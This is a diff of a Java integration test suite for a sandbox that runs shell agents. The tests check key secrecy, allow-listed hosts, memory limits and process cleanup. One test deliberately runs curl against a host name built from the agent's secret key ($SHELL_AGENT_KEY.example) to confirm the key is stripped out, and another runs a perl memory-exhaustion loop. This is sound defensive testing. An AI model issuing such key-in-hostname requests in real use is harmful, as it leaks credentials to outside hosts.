@@ -20,10 +20,15 @@ import java.nio.file.SimpleFileVisitor;
 import java.nio.file.attribute.BasicFileAttributes;
 import java.time.Duration;
 import java.util.ArrayList;
+import java.util.HashMap;
 import java.util.List;
+import java.util.Map;
+import java.util.Objects;
 import java.util.Optional;
-import java.util.concurrent.TimeUnit;
-import org.junit.jupiter.api.BeforeEach;
+import java.util.regex.Pattern;
+import org.jspecify.annotations.Nullable;
+import org.junit.jupiter.api.AfterAll;
+import org.junit.jupiter.api.BeforeAll;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.api.Timeout;
 import org.junit.jupiter.params.ParameterizedTest;
@@ -35,9 +40,28 @@ class AgentsIT {
 
     private static final String DONE = "echo id c-1; echo say done; ";
 
-    @BeforeEach
-    void needSandboxes() {
+    /** For agents in sessions that leave the repository as it is. */
+    private static @Nullable AgentFixture shared;
+
+    @BeforeAll
+    static void open() throws Exception {
         Requirements.bwrap();
+        shared = AgentFixture.open(Tier.SANDBOX);
+    }
+
+    @AfterAll
+    static void close() {
+        if (shared != null) {
+            shared.close();
+        }
+    }
+
+    private static AgentFixture onShared(ShellAgent adapter, Optional<List<String>> allowed) {
+        return Objects.requireNonNull(shared).alike(adapter, allowed);
+    }
+
+    private static AgentFixture onShared() {
+        return onShared(ShellAgent.CLOSED, Optional.empty());
     }
 
     @Test
@@ -56,6 +80,14 @@ class AgentsIT {
                         assertThat(file.change()).isEqualTo(AgentEvent.Change.ADDED);
                     });
             assertThat(agents.app.resolve("foo.txt")).doesNotExist();
+            Path place =
+                    agents.fixture
+                            .state
+                            .resolve("sessions")
+                            .resolve(result.session().orElseThrow().value());
+            assertThat(Files.getLastModifiedTime(place.resolve("run/last-pause.json")))
+                    .as("one start of the session serves the agent's settings and the agent")
+                    .isLessThan(Files.getLastModifiedTime(place.resolve("home/.config/agent.conf")));
             Session session = agents.fixture.sessions.find(result.session().orElseThrow().value());
             session.apply(List.of(), false);
             assertThat(agents.app.resolve("foo.txt")).hasContent("bar");
@@ -84,7 +116,8 @@ class AgentsIT {
     @ParameterizedTest
     @EnumSource
     void itHasAHomeOfItsOwnAndNoVariablesOfTheCaller(Tier tier) throws Exception {
-        try (AgentFixture agents = AgentFixture.open(tier)) {
+        try (AgentFixture agents =
+                tier == Tier.SANDBOX ? onShared() : AgentFixture.open(tier)) {
             AgentResult result =
                     agents.run(
                             "cat ~/.config/agent.conf; env | grep -q CARREL_BWRAP && exit 9;"
@@ -129,7 +162,9 @@ class AgentsIT {
 
             AgentResult large =
                     agents.run(
-                            agents.request("perl -e '$a = q(x) x (600 << 20); sleep 1'")
+                            agents.request(
+                                            "perl -e 'for (1..400) { push @a, q(x) x 524288;"
+                                                    + " select(undef,undef,undef,0.01) if $_ > 100 }'")
                                     .within(ResourceLimits.NONE.within(Duration.ofSeconds(20))));
             assertThat(large.ending()).isInstanceOf(AgentEnding.OutOfMemory.class);
             assertThat(large.kept()).isFalse();
@@ -139,7 +174,7 @@ class AgentsIT {
                             agents.request("echo id c-2; setsid sleep 3714 & sleep 3715")
                                     .within(ResourceLimits.NONE.within(Duration.ofSeconds(60))));
             while (running("371[45]").size() < 2) {
-                Thread.sleep(20);
+                Thread.sleep(50);
             }
             run.cancel();
             assertThat(run.await().ending()).isEqualTo(new AgentEnding.Cancelled());
@@ -147,12 +182,13 @@ class AgentsIT {
         }
     }
 
-    private static List<String> running(String seconds) throws Exception {
-        Requirements.program("pgrep");
-        Process pgrep = new ProcessBuilder("pgrep", "-fx", "sleep " + seconds).start();
-        List<String> found = pgrep.inputReader().lines().toList();
-        assertThat(pgrep.waitFor(10, TimeUnit.SECONDS)).isTrue();
-        return found;
+    /** Numbers of the processes that sleep so long. */
+    private static List<Long> running(String seconds) throws Exception {
+        Pattern sleep = Pattern.compile("sleep " + seconds + " ");
+        return commandLines().entrySet().stream()
+                .filter(process -> sleep.matcher(process.getValue()).matches())
+                .map(Map.Entry::getKey)
+                .toList();
     }
 
     @ParameterizedTest
@@ -187,13 +223,13 @@ class AgentsIT {
 
     @Test
     void itsKeyIsNotOnDiskAndInNoCommandLineWhileItRuns() throws Exception {
-        try (AgentFixture agents = AgentFixture.open(Tier.SANDBOX)) {
+        try (AgentFixture agents = onShared()) {
             AgentRun run = agents.start(agents.request("echo id c-1; sleep 3716; echo say x"));
             while (running("3716").isEmpty()) {
-                Thread.sleep(20);
+                Thread.sleep(50);
             }
             assertThat(holding(agents.fixture.base)).isEmpty();
-            String commands = commandLines();
+            String commands = commandLines().values().toString();
             assertThat(commands).contains("sleep 3716").doesNotContain(AgentFixture.KEY);
             run.cancel();
             run.await();
@@ -204,11 +240,7 @@ class AgentsIT {
     void aKeyInEscapesOrInANameOfAHostIsTakenAwayToo() throws Exception {
         Requirements.program("curl");
         try (AgentFixture agents =
-                AgentFixture.open(
-                        Tier.SANDBOX,
-                        ShellAgent.CLOSED,
-                        Optional.of(List.of("other.example")),
-                        Duration.ofSeconds(60))) {
+                onShared(ShellAgent.CLOSED, Optional.of(List.of("other.example")))) {
             AgentResult result =
                     agents.run(
                             "curl -s -m 5 https://$SHELL_AGENT_KEY.example/ >/dev/null; echo id"
@@ -275,8 +307,8 @@ class AgentsIT {
             assertThat(Duration.ofNanos(System.nanoTime() - begin))
                     .isLessThan(Duration.ofSeconds(20));
             assertThat(result.notices()).singleElement().asString().contains("still runs");
-            for (String pid : running("37.17")) {
-                ProcessHandle.of(Long.parseLong(pid)).ifPresent(ProcessHandle::destroyForcibly);
+            for (long process : running("37.17")) {
+                ProcessHandle.of(process).ifPresent(ProcessHandle::destroyForcibly);
             }
         }
     }
@@ -305,18 +337,21 @@ class AgentsIT {
     }
 
     /** Of all processes of the host, those that hold the agent's among them. */
-    private static String commandLines() throws Exception {
-        StringBuilder all = new StringBuilder();
+    private static Map<Long, String> commandLines() throws Exception {
+        Map<Long, String> all = new HashMap<>();
         try (var processes = Files.newDirectoryStream(Path.of("/proc"), "[0-9]*")) {
             for (Path process : processes) {
                 try {
-                    all.append(Files.readString(process.resolve("cmdline"), ISO_8859_1));
+                    String words = Files.readString(process.resolve("cmdline"), ISO_8859_1);
+                    all.put(
+                            Long.valueOf(process.getFileName().toString()),
+                            words.replace('\0', ' '));
                 } catch (IOException gone) {
                     // It has ended, and its words with it.
                 }
             }
         }
-        return all.toString().replace('\0', ' ');
+        return all;
     }
 
     private static boolean has(Path file) {
@@ -329,18 +364,19 @@ class AgentsIT {
 
     @Test
     void withoutAKeyOrAProgramNothingIsStarted() throws Exception {
-        try (AgentFixture agents = AgentFixture.open(Tier.SANDBOX)) {
+        try (AgentFixture agents = onShared()) {
+            List<String> before = agents.fixture.sessions.ids();
             AgentResult result = agents.runWithoutKey("echo say never");
 
             assertThat(result.ending().word()).isEqualTo("authentication");
             assertThat(result.ending().remedy().orElseThrow()).contains("SHELL_AGENT_KEY");
-            assertThat(agents.fixture.sessions.ids()).isEmpty();
+            assertThat(agents.fixture.sessions.ids()).isEqualTo(before);
         }
     }
 
     @Test
     void whatAProgramMissesIsTold() throws Exception {
-        try (AgentFixture agents = AgentFixture.open(Tier.SANDBOX)) {
+        try (AgentFixture agents = onShared()) {
             AgentResult result = agents.run("echo env: node: not there >&2; exit 127");
 
             assertThat(result.ending()).isInstanceOf(AgentEnding.ProgramMissing.class);
@@ -371,12 +407,13 @@ class AgentsIT {
 
     @Test
     void aRefusedKeyEndsAnAgentThatGoesOn() throws Exception {
-        try (AgentFixture agents = AgentFixture.open(Tier.SANDBOX)) {
+        try (AgentFixture agents = onShared()) {
+            List<String> before = agents.fixture.sessions.ids();
             AgentResult result = agents.run("echo id c-1; echo auth; sleep 600");
 
             assertThat(result.ending().word()).isEqualTo("authentication");
             assertThat(result.kept()).isFalse();
-            assertThat(agents.fixture.sessions.ids()).isEmpty();
+            assertThat(agents.fixture.sessions.ids()).isEqualTo(before);
         }
     }
 
@@ -384,11 +421,9 @@ class AgentsIT {
     void aHostThatItNeedsAndMayNotReachEndsIt() throws Exception {
         Requirements.program("curl");
         try (AgentFixture agents =
-                AgentFixture.open(
-                        Tier.SANDBOX,
+                onShared(
                         new ShellAgent(List.of("needed.example")),
-                        Optional.of(List.of("other.example")),
-                        Duration.ofSeconds(60))) {
+                        Optional.of(List.of("other.example")))) {
             AgentResult without = agents.run(ask("unknown.example") + DONE);
             assertThat(without.ending())
                     .as("one that it does not need does not")
@@ -418,19 +453,17 @@ class AgentsIT {
     @Test
     void withoutAnyHostAnAgentThatNeedsOneIsNotStarted() throws Exception {
         try (AgentFixture agents =
-                AgentFixture.open(
-                        Tier.SANDBOX,
-                        new ShellAgent(List.of("needed.example")),
-                        Optional.of(List.of()),
-                        Duration.ofSeconds(60))) {
+                onShared(new ShellAgent(List.of("needed.example")), Optional.of(List.of()))) {
+            List<String> before = agents.fixture.sessions.ids();
             assertThat(agents.run("echo say never").ending().word()).isEqualTo("host-not-allowed");
-            assertThat(agents.fixture.sessions.ids()).isEmpty();
+            assertThat(agents.fixture.sessions.ids()).isEqualTo(before);
         }
     }
 
     @Test
     void sessionsAreKeptByTheRule() throws Exception {
-        try (AgentFixture agents = AgentFixture.open(Tier.SANDBOX)) {
+        try (AgentFixture agents = onShared()) {
+            List<String> before = agents.fixture.sessions.ids();
             assertThat(agents.run("echo say nothing").kept()).isFalse();
             assertThat(agents.run("echo x >x; echo say changed").kept()).isTrue();
             assertThat(agents.run(agents.request("echo say x").retaining(Retain.ALWAYS)).kept())
@@ -439,13 +472,13 @@ class AgentsIT {
                             agents.run(agents.request("echo x >x; " + DONE).retaining(Retain.NEVER))
                                     .kept())
                     .isFalse();
-            assertThat(agents.fixture.sessions.ids()).hasSize(2);
+            assertThat(agents.fixture.sessions.ids()).hasSize(before.size() + 2);
         }
     }
 
     @Test
     void twentyAtOnceOnOneRepositoryShareItsSnapshot() throws Exception {
-        try (AgentFixture agents = AgentFixture.open(Tier.SANDBOX)) {
+        try (AgentFixture agents = onShared()) {
             List<AgentRun> runs = new ArrayList<>();
             for (int i = 0; i < 20; i++) {
                 runs.add(agents.start(agents.request("echo " + i + " >mine; " + DONE)));
@@ -468,14 +501,15 @@ class AgentsIT {
 
     @Test
     void whatCannotBeStartedLeavesNothing() throws Exception {
-        try (AgentFixture agents = AgentFixture.open(Tier.SANDBOX)) {
+        try (AgentFixture agents = onShared()) {
+            List<String> before = agents.fixture.sessions.ids();
             assertThatThrownBy(() ->
                             agents.run(
                                     agents.request("echo say x")
                                             .within(ResourceLimits.NONE.withMemory(32 << 20))))
                     .isInstanceOf(CarrelException.class)
                     .hasMessageContaining("needs at least 64M");
-            assertThat(agents.fixture.sessions.ids()).isEmpty();
+            assertThat(agents.fixture.sessions.ids()).isEqualTo(before);
         }
     }
 }
